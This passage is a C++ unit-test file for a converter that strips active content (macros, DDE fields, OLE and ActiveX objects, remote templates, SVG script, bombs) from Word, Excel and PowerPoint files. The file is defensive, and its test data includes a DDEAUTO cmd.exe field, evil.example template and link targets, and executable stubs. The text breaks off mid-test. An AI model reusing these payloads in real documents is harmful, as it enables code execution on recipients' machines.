// OOXML disarming: each kind of active content goes from the package, the visible text stays,
// the output is a valid macro-free package; entity and zip bombs and non-OOXML input fail.
#include "converters/ooxml/ooxml_disarm.h"

#include <gtest/gtest.h>
#include <libxml/parser.h>
#include <libxml/tree.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <map>

#include "converters/archive/zip_builder.h"
#include "converters/image/image_sanitizer.h"
#include "test_support.h"

namespace mugai {
namespace {

using Members = std::map<std::string, std::string>;

OoxmlLimits Limits() {
  OoxmlLimits l;
  l.package = ArchiveLimits{1000, 16 << 20, 32 << 20, 200, 1 << 20};
  l.max_part_bytes = 8 << 20;
  l.max_parts = 1000;
  return l;
}

std::string Fixture(const std::string& name) {
  return testing::ReadFile(testing::FixturesDir() + "/ooxml/" + name);
}

Members Unzip(const std::string& zip) {
  UnpackOutcome u = UnpackArchive(zip, "", "", Limits().package);
  EXPECT_EQ(u.problem, ArchiveProblem::kNone) << u.detail;
  Members m;
  for (auto& member : u.archive.members) m[member.path] = std::move(member.bytes);
  return m;
}

std::string Zip(const Members& members) {
  std::vector<ZipEntry> entries;
  for (const auto& [name, bytes] : members) entries.push_back({name, &bytes});
  return BuildZip(entries).value();
}

bool IsXmlName(const std::string& name) {
  return name.ends_with(".xml") || name.ends_with(".rels") || name.ends_with(".vml");
}

// Every XML part parses (no network, no entities) and has no DOCTYPE.
void ExpectXmlPartsParse(const Members& m) {
  for (const auto& [name, bytes] : m) {
    if (!IsXmlName(name)) continue;
    xmlDocPtr doc =
        xmlReadMemory(bytes.data(), static_cast<int>(bytes.size()), name.c_str(), nullptr,
                      XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
    EXPECT_NE(doc, nullptr) << name << " does not parse";
    if (doc) {
      EXPECT_EQ(doc->intSubset, nullptr) << name;
      xmlFreeDoc(doc);
    }
  }
}

bool AnyXmlPartHas(const Members& m, const std::string& needle) {
  for (const auto& [name, bytes] : m) {
    if (IsXmlName(name) && bytes.find(needle) != std::string::npos) return true;
  }
  return false;
}

bool Has(const OoxmlFindings& f, const std::string& what, const std::string& detail = "") {
  for (const auto& [w, d] : f.removed) {
    if (w == what && d.find(detail) != std::string::npos) return true;
  }
  return false;
}

std::string Describe(const OoxmlFindings& f) {
  std::string out;
  for (const auto& [w, d] : f.removed) out += "  " + w + ": " + d + "\n";
  return out;
}

std::string KindOf(const std::string& extension) {
  return extension[0] == 'd' ? "docx" : extension[0] == 'x' ? "xlsx" : "pptx";
}

struct Case {
  std::string fixture;
  std::string extension;
  bool macro_enabled;
  std::vector<std::string> gone_parts, kept_parts;
  std::vector<std::string> gone_strings, kept_strings;        // in any output XML part
  std::vector<std::pair<std::string, std::string>> findings;  // (what, detail substring)
  std::vector<std::string> text;  // OoxmlText of the output contains each
};

const std::vector<Case>& Cases() {
  static const std::vector<Case> cases = {
      {"docm-vba.docm",
       "docx",
       true,
       {"word/vbaProject.bin", "word/vbaData.xml", "word/_rels/vbaProject.bin.rels"},
       {"word/document.xml"},
       {"vbaProject", "vbaData", "macroEnabled"},
       {"wordprocessingml.document.main+xml"},
       {{"vba_project", "word/vbaProject.bin"},
        {"vba_data", "word/vbaData.xml"},
        {"macro_content_type", "macroEnabled"}},
       {"この文書にはマクロがあります。"}},
      {"docx-with-vba.docx",
       "docx",
       true,
       {"word/vbaProject.bin", "word/vbaData.xml"},
       {},
       {"vbaProject", "macroEnabled"},
       {},
       {{"vba_project", "word/vbaProject.bin"}},
       {"この文書にはマクロがあります。"}},
      {"xlsm-vba.xlsm",
       "xlsx",
       true,
       {"xl/vbaProject.bin"},
       {"xl/worksheets/sheet1.xml"},
       {"vbaProject", "macroEnabled"},
       {"spreadsheetml.sheet.main+xml"},
       {{"vba_project", "xl/vbaProject.bin"}},
       {"Macro book"}},
      {"xlsx-xlm-macrosheet.xlsx",
       "xlsx",
       true,
       {"xl/macrosheets/sheet1.xml", "xl/dialogsheets/sheet1.xml"},
       {},
       {"Macro1", "macrosheet", "Auto_Open", "auto_open", "Dialog1", "dialogsheet", "EXEC"},
       {"Budget"},
       {{"xlm_macro_sheet", "xl/macrosheets/sheet1.xml"},
        {"dialog_sheet", "xl/dialogsheets/sheet1.xml"},
        {"auto_run_name", "_xlnm.Auto_Open"},
        {"auto_run_name", "auto_open_x"}},
       {"予算"}},
      {"docx-activex.docx",
       "docx",
       false,
       {"word/activeX/activeX1.xml", "word/activeX/activeX1.bin",
        "word/activeX/_rels/activeX1.xml.rels"},
       {"word/media/image1.png"},
       {"w:control", "activeX"},
       {"v:imagedata r:id=\"rId2\""},
       {{"activex", "word/activeX/activeX1.xml"}, {"activex", "word/activeX/activeX1.bin"}},
       {"Button:"}},
      {"docx-ole-object.docx",
       "docx",
       false,
       {"word/embeddings/oleObject1.bin"},
       {"word/media/image1.png"},
       {"OLEObject", "oleObject", "o:ole="},
       {"v:imagedata r:id=\"rId2\"", "<w:object"},
       {{"embedded_object", "word/embeddings/oleObject1.bin"}},
       {"添付:"}},
      {"xlsx-external-link.xlsx",
       "xlsx",
       false,
       {"xl/externalLinks/externalLink1.xml", "xl/externalLinks/externalLink2.xml",
        "xl/externalLinks/_rels/externalLink1.xml.rels"},
       {},
       {"externalReference", "externalLink", "[1]", "[2]", "ddeLink", "evil.example", "Rate"},
       {"SUM(1,2)", "<v>84</v>"},
       {{"external_link", "externalLink1.xml"},
        {"external_link", "externalLink2.xml"},
        {"external_formula", "3 formula(s) replaced by their values"},
        {"external_formula", "Rate"}},
       {"remote"}},
      {"docx-remote-template.docx",
       "docx",
       false,
       {},
       {"word/document.xml"},
       {"attachedTemplate", "template.evil.example"},
       {"defaultTabStop"},
       {{"external_relationship", "attachedTemplate → http://template.evil.example/normal.dotm"}},
       {"Template document"}},
      {"docx-dde.docx",
       "docx",
       false,
       {},
       {},
       {"DDEAUTO", "cmd.exe", "QUOTE", "fldSimple"},
       {" PAGE "},
       {{"dde_field", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""},
        {"obfuscated_field", ""}},
       {"DDE result one", "DDE result two", "Page 1", "Obfuscated result"}},
      {"docx-includetext.docx",
       "docx",
       false,
       {},
       {},
       {"INCLUDETEXT", "INCLUDEPICTURE", "evil.example"},
       {},
       {{"include_field", "INCLUDETEXT"}, {"include_field", "INCLUDEPICTURE"}},
       {"Included text", "Picture placeholder"}},
      {"docx-hyperlink.docx",
       "docx",
       false,
       {},
       {},
       {"city.example", "evil.example", "HYPERLINK", "<w:hyperlink r:id"},
       {"w:anchor=\"top\""},
       {{"hyperlink", "https://www.city.example.lg.jp/"}, {"hyperlink_field", "evil.example"}},
       {"市のサイト", "先頭へ", "Field link text"}},
      {"docx-customui.docx",
       "docx",
       false,
       {"customUI/customUI.xml", "customUI/customUI14.xml", "customUI/images/icon.png",
        "customUI/_rels/customUI14.xml.rels"},
       {},
       {"customUI", "extensibility", "onAction"},
       {},
       {{"custom_ui", "customUI/customUI.xml"}, {"custom_ui", "customUI/customUI14.xml"}},
       {"Custom ribbon document"}},
      {"pptx-ole.pptx",
       "pptx",
       false,
       {"ppt/embeddings/oleObject1.bin"},
       {"ppt/media/image1.png"},
       {"oleObj", "graphicFrame", "calc.exe", "ppaction", "hlinkClick", "AlternateContent"},
       {"<p:pic>", "r:embed=\"rId4\""},
       {{"embedded_object", "ppt/embeddings/oleObject1.bin"},
        {"hyperlink", "calc.exe"},
        {"program_action", "ppaction://program"}},
       {"Slide with an object"}},
  };
  return cases;
}

TEST(OoxmlDisarm, EachRemovalFixture) {
  for (const Case& c : Cases()) {
    SCOPED_TRACE(c.fixture);
    std::string input = Fixture(c.fixture);
    Result<OoxmlDisarmed> r = DisarmOoxml(input, Limits());
    ASSERT_TRUE(r.ok()) << r.status().message();
    EXPECT_EQ(r->output_extension, c.extension);
    EXPECT_EQ(r->findings.kind, KindOf(c.extension));
    EXPECT_EQ(r->findings.macro_enabled_input, c.macro_enabled);
    Members in = Unzip(input);
    Members out = Unzip(r->bytes);
    ASSERT_TRUE(out.contains("[Content_Types].xml"));
    ExpectXmlPartsParse(out);
    for (const auto& p : c.gone_parts) {
      EXPECT_TRUE(in.contains(p)) << p << " missing from the fixture";
      EXPECT_FALSE(out.contains(p)) << p;
    }
    for (const auto& p : c.kept_parts) {
      ASSERT_TRUE(out.contains(p)) << p;
      if (p.ends_with(".png")) {
        // Images are decoded and encoded again: still a PNG, no longer the sender's bytes.
        EXPECT_EQ(out[p].substr(0, 8), "\x89PNG\r\n\x1a\n") << p;
      } else {
        EXPECT_EQ(out[p], in[p]) << p << " should be copied unchanged";
      }
    }
    for (const auto& s : c.gone_strings) EXPECT_FALSE(AnyXmlPartHas(out, s)) << s;
    for (const auto& s : c.kept_strings) EXPECT_TRUE(AnyXmlPartHas(out, s)) << s;
    for (const auto& [what, detail] : c.findings) {
      EXPECT_TRUE(Has(r->findings, what, detail)) << what << " " << detail << " not in\n"
                                                  << Describe(r->findings);
    }
    Result<std::string> text = OoxmlText(r->bytes, Limits());
    ASSERT_TRUE(text.ok()) << text.status().message();
    for (const auto& t : c.text) {
      EXPECT_NE(text->find(t), std::string::npos) << t << " in\n" << *text;
    }
    // Disarming the output again finds nothing left to remove.
    Result<OoxmlDisarmed> again = DisarmOoxml(r->bytes, Limits());
    ASSERT_TRUE(again.ok()) << again.status().message();
    EXPECT_TRUE(again->findings.removed.empty()) << Describe(again->findings);
    EXPECT_FALSE(again->findings.macro_enabled_input);
  }
}

// Edited parts are written back by libxml2 with a full declaration; untouched ones are not.
TEST(OoxmlDisarm, EditedPartsKeepTheirDeclarationAndOthersTheirBytes) {
  std::string input = Fixture("docx-hyperlink.docx");
  Result<OoxmlDisarmed> r = DisarmOoxml(input, Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  Members in = Unzip(input);
  Members out = Unzip(r->bytes);
  EXPECT_NE(out["word/document.xml"], in["word/document.xml"]);
  EXPECT_TRUE(out["word/document.xml"].starts_with(
      "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"));
  EXPECT_EQ(out["_rels/.rels"], in["_rels/.rels"]);
  EXPECT_EQ(r->output_mime,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
}

TEST(OoxmlDisarm, MacroSheetRemovalFixesSheetIndices) {
  Result<OoxmlDisarmed> r = DisarmOoxml(Fixture("xlsx-xlm-macrosheet.xlsx"), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  std::string wb = Unzip(r->bytes)["xl/workbook.xml"];
  // Sheet1 was the second sheet after Macro1: its index (print area, active tab) is now 0.
  EXPECT_NE(wb.find("localSheetId=\"0\""), std::string::npos) << wb;
  EXPECT_NE(wb.find("activeTab=\"0\""), std::string::npos) << wb;
  EXPECT_NE(wb.find("<sheet name=\"Sheet1\""), std::string::npos) << wb;
}

TEST(OoxmlDisarm, ExternalFormulasKeepTheirValues) {
  Result<OoxmlDisarmed> r = DisarmOoxml(Fixture("xlsx-external-link.xlsx"), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  std::string sheet = Unzip(r->bytes)["xl/worksheets/sheet1.xml"];
  EXPECT_NE(sheet.find("<c r=\"A1\"><v>84</v></c>"), std::string::npos) << sheet;
  EXPECT_NE(sheet.find("<c r=\"B1\" t=\"inlineStr\"><is><t>remote</t></is></c>"), std::string::npos)
      << sheet;
  EXPECT_NE(sheet.find("<c r=\"C1\"><f>SUM(1,2)</f><v>3</v></c>"), std::string::npos) << sheet;
}

TEST(OoxmlDisarm, OleObjectsKeepTheirPreviewPicture) {
  Result<OoxmlDisarmed> docx = DisarmOoxml(Fixture("docx-ole-object.docx"), Limits());
  ASSERT_TRUE(docx.ok()) << docx.status().message();
  Members d = Unzip(docx->bytes);
  EXPECT_NE(d["word/_rels/document.xml.rels"].find("media/image1.png"), std::string::npos);
  EXPECT_EQ(d["word/_rels/document.xml.rels"].find("rId3"), std::string::npos);

  Result<OoxmlDisarmed> pptx = DisarmOoxml(Fixture("pptx-ole.pptx"), Limits());
  ASSERT_TRUE(pptx.ok()) << pptx.status().message();
  Members p = Unzip(pptx->bytes);
  const std::string& slide = p["ppt/slides/slide1.xml"];
  // The graphic frame became the fallback picture, in the shape tree.
  size_t pic = slide.find("<p:pic>");
  ASSERT_NE(pic, std::string::npos) << slide;
  EXPECT_LT(pic, slide.find("</p:spTree>"));
  EXPECT_NE(slide.find("<a:off x=\"914400\" y=\"2286000\"/>"), std::string::npos);
  EXPECT_NE(p["ppt/slides/_rels/slide1.xml.rels"].find("../media/image1.png"), std::string::npos);
}

TEST(OoxmlDisarm, HarmlessFieldsStay) {
  Result<OoxmlDisarmed> r = DisarmOoxml(Fixture("docx-dde.docx"), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  std::string doc = Unzip(r->bytes)["word/document.xml"];
  // PAGE keeps begin, instruction, separate, result and end.
  size_t page = doc.find(" PAGE ");
  ASSERT_NE(page, std::string::npos);
  EXPECT_NE(doc.rfind("fldCharType=\"begin\"", page), std::string::npos);
  EXPECT_NE(doc.find("fldCharType=\"end\"", page), std::string::npos);
  EXPECT_EQ(
      std::count(r->findings.removed.begin(), r->findings.removed.end(),
                 std::pair<std::string, std::string>("dde_field",
                                                     "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                                                     "\"/k calc.exe\"")),
      2);
}

TEST(OoxmlDisarm, JapaneseTextFromAllThreeKinds) {
  const std::pair<const char*, const char*> cases[] = {
      {"ja-text.docx", "令和8年度 予算要求 書類\n総務課 作成　（第２版）\n"},
      // Phonetic guides (rPh) are not text; rich runs join; then inline strings.
      {"ja-text.xlsx", "令和8年度 予算要求 書類\n総務課 作成\n歳出合計\n"},
      // Presentation order, not part order.
      {"ja-text.pptx", "令和8年度 予算要求 書類\n資料一覧\n歳入・歳出の見込み\n"},
  };
  for (const auto& [fixture, want] : cases) {
    std::string input = Fixture(fixture);
    Result<std::string> text = OoxmlText(input, Limits());
    ASSERT_TRUE(text.ok()) << fixture << ": " << text.status().message();
    EXPECT_EQ(*text, want) << fixture;
    // Nothing to remove: every part comes out byte for byte.
    Result<OoxmlDisarmed> r = DisarmOoxml(input, Limits());
    ASSERT_TRUE(r.ok()) << fixture << ": " << r.status().message();
    EXPECT_TRUE(r->findings.removed.empty()) << fixture << "\n" << Describe(r->findings);
    EXPECT_EQ(Unzip(r->bytes), Unzip(input)) << fixture;
  }
}

TEST(OoxmlDisarm, BombsFailQuickly) {
  for (const char* fixture : {"billion-laughs.docx", "zip-bomb.docx"}) {
    auto start = std::chrono::steady_clock::now();
    Result<OoxmlDisarmed> r = DisarmOoxml(Fixture(fixture), Limits());
    Result<std::string> t = OoxmlText(Fixture(fixture), Limits());
    auto took = std::chrono::steady_clock::now() - start;
    ASSERT_FALSE(r.ok()) << fixture;
    EXPECT_EQ(r.status().code(), StatusCode::kLimit) << fixture << ": " << r.status().message();
    EXPECT_FALSE(t.ok()) << fixture;
    EXPECT_LT(took, std::chrono::seconds(2)) << fixture;
  }
  EXPECT_NE(
      DisarmOoxml(Fixture("billion-laughs.docx"), Limits()).status().message().find("DOCTYPE"),
      std::string::npos);
}

// A DOCTYPE is refused whatever the part's encoding (here UTF-16 with a byte-order mark).
TEST(OoxmlDisarm, Utf16DoctypeIsRefused) {
  Members m = Unzip(Fixture("ja-text.docx"));
  std::string ascii =
      "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE d [<!ENTITY e \"x\">]>"
      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
      "<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>";
  std::string utf16 = "\xFF\xFE";
  for (char c : ascii) utf16 += std::string{c, '\0'};
  m["word/document.xml"] = utf16;
  Result<OoxmlDisarmed> r = DisarmOoxml(Zip(m), Limits());
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kLimit) << r.status().message();
}

TEST(OoxmlDisarm, HostilePackagesAreRefused) {
  Members ja = Unzip(Fixture("ja-text.docx"));
  Members no_types = ja;
  no_types.erase("[Content_Types].xml");
  Members no_main = ja;
  no_main.erase("word/document.xml");
  Members broken = ja;
  broken["word/document.xml"] = "<w:document><w:body>";
  Members clash = ja;
  clash["WORD/document.xml"] = ja["word/document.xml"];
  Members xlsb = ja;
  std::string& types = xlsb["[Content_Types].xml"];
  const std::string docx_main =
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
  types.replace(types.find(docx_main), docx_main.size(),
                "application/vnd.ms-excel.sheet.binary.macroEnabled.main");
  const std::pair<const char*, std::string> cases[] = {
      {"a zip without [Content_Types].xml", Zip({{"readme.txt", "hello"}})},
      {"no content types", Zip(no_types)},
      {"no main part", Zip(no_main)},
      {"a part that does not parse", Zip(broken)},
      {"names that differ in case only", Zip(clash)},
      {"an unsupported main type", Zip(xlsb)},
      {"not a zip", "PK\x03\x04 not really a zip"},
      {"empty input", ""},
  };
  for (const auto& [what, bytes] : cases) {
    Result<OoxmlDisarmed> r = DisarmOoxml(bytes, Limits());
    ASSERT_FALSE(r.ok()) << what;
    EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument)
        << what << ": " << r.status().message();
    EXPECT_FALSE(OoxmlText(bytes, Limits()).ok()) << what;
  }
}

TEST(OoxmlDisarm, PartLimits) {
  std::string docx = Fixture("docx-hyperlink.docx");
  OoxmlLimits parts = Limits();
  parts.max_parts = 2;
  EXPECT_EQ(DisarmOoxml(docx, parts).status().code(), StatusCode::kLimit);
  OoxmlLimits bytes = Limits();
  bytes.max_part_bytes = 100;
  EXPECT_EQ(DisarmOoxml(docx, bytes).status().code(), StatusCode::kLimit);
  EXPECT_EQ(OoxmlText(docx, bytes).status().code(), StatusCode::kLimit);
}

// OPC compares part names without case: a renamed VBA project is still found.
TEST(OoxmlDisarm, PartNamesIgnoreCase) {
  Members m = Unzip(Fixture("docm-vba.docm"));
  m["Word/VBAPROJECT.BIN"] = m["word/vbaProject.bin"];
  m.erase("word/vbaProject.bin");
  Result<OoxmlDisarmed> r = DisarmOoxml(Zip(m), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  EXPECT_TRUE(Has(r->findings, "vba_project", "Word/VBAPROJECT.BIN")) << Describe(r->findings);
  EXPECT_FALSE(Unzip(r->bytes).contains("Word/VBAPROJECT.BIN"));
}

// ja-text.docx with another body.
std::string DocxWithBody(const std::string& body) {
  Members m = Unzip(Fixture("ja-text.docx"));
  m["word/document.xml"] =
      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
      "<w:body>" +
      body + "</w:body></w:document>";
  return Zip(m);
}

std::string Run(const std::string& inner) { return "<w:r>" + inner + "</w:r>"; }
std::string Begin() { return Run("<w:fldChar w:fldCharType=\"begin\"/>"); }
std::string Separate() { return Run("<w:fldChar w:fldCharType=\"separate\"/>"); }
std::string End() { return Run("<w:fldChar w:fldCharType=\"end\"/>"); }
std::string Instr(const std::string& t) {
  return Run("<w:instrText xml:space=\"preserve\">" + t + "</w:instrText>");
}
std::string Text(const std::string& t) { return Run("<w:t>" + t + "</w:t>"); }

TEST(OoxmlDisarm, FieldEdgeCases) {
  struct FieldCase {
    const char* name;
    std::string body;
    const char* what;  // "" = nothing removed
    const char* text;  // the visible text afterwards
  };
  const FieldCase cases[] = {
      {"keyword split by a nested field",
       "<w:p>" + Begin() + Instr("D") + Begin() + Instr("QUOTE \"DE\"") + Separate() + Text("DE") +
           End() + Instr("AUTO cmd") + Separate() + Text("shown") + End() + "</w:p>",
       "obfuscated_field", "shown\n"},
      {"lower-case simple field",
       "<w:p><w:fldSimple w:instr=\"ddeauto cmd\">" + Text("shown") + "</w:fldSimple></w:p>",
       "dde_field", "shown\n"},
      {"link after a switch",
       "<w:p>" + Begin() + Instr("HYPERLINK \\o \"tip\" \"http://evil.example/\"") + Separate() +
           Text("shown") + End() + "</w:p>",
       "hyperlink_field", "shown\n"},
      {"database field",
       "<w:p>" + Begin() + Instr("DATABASE \\d \"\\\\\\\\host\\\\x.mdb\"") + Separate() + Text("shown") +
           End() + "</w:p>",
       "include_field", "shown\n"},
      {"bookmark link with a tooltip stays",
       "<w:p>" + Begin() + Instr("HYPERLINK \\l \"_Toc2\" \\o \"tip\"") + Separate() + Text("shown") +
           End() + "</w:p>",
       "", "shown\n"},
      {"table-of-contents link stays",
       "<w:p>" + Begin() + Instr("HYPERLINK \\l \"_Toc1\"") + Separate() + Text("shown") + End() +
           "</w:p>",
       "", "shown\n"},
      {"never ended",
       "<w:p>" + Text("before") + Begin() + Instr(" LINK Excel.Sheet.8 \"x.xls\" ") + "</w:p>",
       "link_field", "before\n"},
      {"result across paragraphs",
       "<w:p>" + Begin() + Instr("INCLUDETEXT x") + Separate() + Text("one") + "</w:p><w:p>" +
           Text("two") + End() + "</w:p>",
       "include_field", "one\ntwo\n"},
  };
  for (const FieldCase& c : cases) {
    Result<OoxmlDisarmed> r = DisarmOoxml(DocxWithBody(c.body), Limits());
    ASSERT_TRUE(r.ok()) << c.name << ": " << r.status().message();
    if (*c.what) {
      EXPECT_TRUE(Has(r->findings, c.what)) << c.name << "\n" << Describe(r->findings);
      EXPECT_FALSE(AnyXmlPartHas(Unzip(r->bytes), "instrText")) << c.name;
    } else {
      EXPECT_TRUE(r->findings.removed.empty()) << c.name << "\n" << Describe(r->findings);
    }
    Result<std::string> text = OoxmlText(r->bytes, Limits());
    ASSERT_TRUE(text.ok()) << c.name;
    EXPECT_EQ(*text, c.text) << c.name;
  }
}

// Thousands of nested, never-ended fields: linear work, and a bounded report.
TEST(OoxmlDisarm, ManyFieldsStayLinearAndTheReportBounded) {
  std::string body = "<w:p>";
  for (int i = 0; i < 20000; ++i) body += Begin() + Instr("DDE x");
  body += "</w:p>";
  OoxmlLimits limits = Limits();
  limits.package.max_ratio = 100000;  // so repetitive that it compresses like a bomb
  auto start = std::chrono::steady_clock::now();
  Result<OoxmlDisarmed> r = DisarmOoxml(DocxWithBody(body), limits);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
  ASSERT_TRUE(r.ok()) << r.status().message();
  EXPECT_EQ(r->findings.removed.size(), 51u);
  EXPECT_TRUE(Has(r->findings, "dde_field", "and 19950 more"));
  UnpackOutcome out = UnpackArchive(r->bytes, "", "", limits.package);
  ASSERT_EQ(out.problem, ArchiveProblem::kNone);
  for (const auto& m : out.archive.members) {
    EXPECT_EQ(m.bytes.find("instrText"), std::string::npos) << m.path;
  }
}

// A workbook made only of macro sheets has nothing left to deliver.
TEST(OoxmlDisarm, WorkbookOfMacroSheetsOnlyIsRefused) {
  Members m = Unzip(Fixture("xlsx-xlm-macrosheet.xlsx"));
  std::string& wb = m["xl/workbook.xml"];
  size_t at = wb.find("<sheet name=\"Sheet1\"");
  wb.erase(at, wb.find("/>", at) + 2 - at);
  Result<OoxmlDisarmed> r = DisarmOoxml(Zip(m), Limits());
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument) << r.status().message();
}

// ---- Issue 20: the allow-list ----

const std::string kTypesHead =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default "
    "Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>";
const std::string kRelsHead =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
const std::string kRelNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

std::string Rel(const std::string& id, const std::string& type, const std::string& target,
                bool external = false) {
  std::string uri = type.find("://") == std::string::npos ? kRelNs + type : type;
  return "<Relationship Id=\"" + id + "\" Type=\"" + uri + "\" Target=\"" + target + "\"" +
         (external ? " TargetMode=\"External\"" : "") + "/>";
}

// A docx: `body` in word/document.xml, `rels` its relationships, `types` more content types,
// `extra` more parts.
std::string CraftedDocx(const std::string& body, const std::string& rels, const std::string& types,
                        const Members& extra) {
  Members m = extra;
  m["[Content_Types].xml"] =
      kTypesHead + "<Default Extension=\"png\" ContentType=\"image/png\"/>" +
      "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
      "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>" +
      types + "</Types>";
  m["_rels/.rels"] = kRelsHead + Rel("rId1", "officeDocument", "word/document.xml") +
                     (m.contains("webextensions/taskpanes.xml")
                          ? Rel("rId2",
                                "http://schemas.microsoft.com/office/2011/relationships/"
                                "webextensiontaskpanes",
                                "webextensions/taskpanes.xml")
                          : "") +
                     "</Relationships>";
  m["word/document.xml"] =
      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
      "xmlns:r=\"" + kRelNs.substr(0, kRelNs.size() - 1) + "\" "
      "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\">"
      "<w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p>" + body + "</w:body></w:document>";
  m["word/_rels/document.xml.rels"] = kRelsHead + rels + "</Relationships>";
  return Zip(m);
}

std::string Png() { return Unzip(Fixture("docx-ole-object.docx"))["word/media/image1.png"]; }

const std::string kExe = std::string("MZ\x90\0\x03\0\0\0", 8) + "This program cannot be run in DOS mode.";

TEST(OoxmlAllowList, PartsNoRuleNamedAreRemovedAndReported) {
  struct PartCase {
    const char* what;
    std::string rels, types;
    Members extra;
    std::string gone_part;  // not in the output
    std::string finding;    // (what) in the findings
  };
  const std::string ct = "application/vnd.openxmlformats-officedocument.";
  const PartCase cases[] = {
      {"customXml with a Power Query DataMashup",
       Rel("rId5", "customXml", "../customXml/item1.xml"), "",
       {{"customXml/item1.xml", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">AAAA</DataMashup>"}},
       "customXml/item1.xml", "part_not_allowed"},
      {"embedded font carrying EXE bytes", Rel("rId5", "font", "fonts/font1.odttf"),
       "<Default Extension=\"odttf\" ContentType=\"" + ct + "obfuscatedFont\"/>",
       {{"word/fonts/font1.odttf", kExe}}, "word/fonts/font1.odttf", "part_not_allowed"},
      {"web add-in with an auto-show task pane", "",
       "<Override PartName=\"/webextensions/taskpanes.xml\" "
       "ContentType=\"application/vnd.ms-office.webextensiontaskpanes+xml\"/>",
       {{"webextensions/taskpanes.xml",
         "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\">"
         "<wetp:taskpane dockstate=\"right\" visibility=\"1\"/></wetp:taskpanes>"}},
       "webextensions/taskpanes.xml", "part_not_allowed"},
      {"an executable behind an image relationship", Rel("rId5", "image", "media/image1.png"), "",
       {{"word/media/image1.png", kExe}}, "word/media/image1.png", "image_not_an_image"},
      {"SVG with script and an external image", Rel("rId5", "image", "media/image2.svg"),
       "<Default Extension=\"svg\" ContentType=\"image/svg+xml\"/>",
       {{"word/media/image2.svg",
         "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script>"
         "<image href=\"http://evil.example/x.png\"/></svg>"}},
       "word/media/image2.svg", "svg_image"},
      {"a part of an unknown type", Rel("rId5", "image", "media/x.bin"),
       "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>",
       {{"word/media/x.bin", kExe}}, "word/media/x.bin", "part_not_allowed"},
  };
  for (const PartCase& c : cases) {
    SCOPED_TRACE(c.what);
    Result<OoxmlDisarmed> r = DisarmOoxml(CraftedDocx("", c.rels, c.types, c.extra), Limits());
    ASSERT_TRUE(r.ok()) << r.status().message();
    EXPECT_TRUE(Has(r->findings, c.finding)) << Describe(r->findings);
    Members out = Unzip(r->bytes);
    EXPECT_FALSE(out.contains(c.gone_part));
    for (const auto& [name, bytes] : out) {
      EXPECT_EQ(bytes.find("This program cannot"), std::string::npos) << name;
      EXPECT_EQ(bytes.find("DataMashup"), std::string::npos) << name;
      EXPECT_EQ(bytes.find("<script"), std::string::npos) << name;
    }
    // The output, disarmed again, loses nothing more (the verifier's check).
    Result<OoxmlDisarmed> again = DisarmOoxml(r->bytes, Limits());
    ASSERT_TRUE(again.ok()) << again.status().message();
    EXPECT_TRUE(again->findings.removed.empty()) << Describe(again->findings);
    EXPECT_EQ(OoxmlText(r->bytes, Limits()).value(), "本文\n");
  }
}

TEST(OoxmlAllowList, ImagesAreReencodedWithoutWhatWasAppended) {
  ASSERT_TRUE(InitImageLibrary().ok());
  const std::string png = Png();
  Result<OoxmlDisarmed> r = DisarmOoxml(
      CraftedDocx("", Rel("rId5", "image", "media/image1.png"), "",
                  {{"word/media/image1.png", png + kExe + "<html><script>x()</script></html>"}}),
      Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  EXPECT_EQ(r->findings.images_reencoded, 1u);
  std::string out = Unzip(r->bytes)["word/media/image1.png"];
  ASSERT_FALSE(out.empty());
  EXPECT_EQ(out.substr(0, 8), "\x89PNG\r\n\x1a\n");
  EXPECT_EQ(out.find("This program"), std::string::npos);
  EXPECT_EQ(out.find("<script"), std::string::npos);
  EXPECT_TRUE(out.ends_with(std::string("IEND\xAE\x42\x60\x82", 8)));
}

// An EMF picture carrying an executable in a comment record and after its end: rebuilt
// without either, and the document keeps the picture.
TEST(OoxmlAllowList, MetafilesLoseCommentsAndTrailingBytes) {
  auto u32 = [](uint32_t v) { return std::string(reinterpret_cast<const char*>(&v), 4); };
  std::string header = u32(1) + u32(88) + std::string(32, '\0') + " EMF" + u32(0x10000) +
